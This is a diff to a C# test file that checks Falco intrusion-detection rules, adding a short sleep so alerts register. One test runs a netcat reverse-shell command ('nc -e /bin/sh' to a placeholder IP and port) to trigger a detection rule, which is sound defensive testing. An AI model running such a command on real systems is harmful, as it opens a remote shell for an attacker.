@@ -27,7 +27,9 @@ public sealed class FalcoRuleDetectionTests
             return new Alert("", "", new Dictionary<string, string?>());
         }
 
-        var run = s.Run(script(s), FalcoConfig.Write(s, stock, userRules));
+        // The sleep lets a scheduled run see the events: with about sixty compiled stock rules, the last run at the
+        // app's exit (AgentRuntime.Drain, a bounded budget) is not guaranteed to reach every query on a busy machine.
+        var run = s.Run(script(s) + "; sleep 1.5", FalcoConfig.Write(s, stock, userRules));
         var alerts = run.OfFalco(query);
         Assert.True(alerts.Count > 0, $"{query} raised no alert.\n{run}");
         var alert = alerts.FirstOrDefault(match);
@@ -135,7 +137,7 @@ public sealed class FalcoRuleDetectionTests
             return;
         }
 
-        var run = s.Run("./nc -e /bin/sh 192.0.2.1 4444", FalcoConfig.Write(s, bundled: true, stock));
+        var run = s.Run("./nc -e /bin/sh 192.0.2.1 4444; sleep 1.5", FalcoConfig.Write(s, bundled: true, stock));
         var compiled = Assert.Single(run.OfFalco("netcat_remote_code_execution_in_container"));
         var hand = Assert.Single(run.Of("netcat_remote_code_execution"));
         Assert.Equal(hand["rule"], compiled["rule"]);
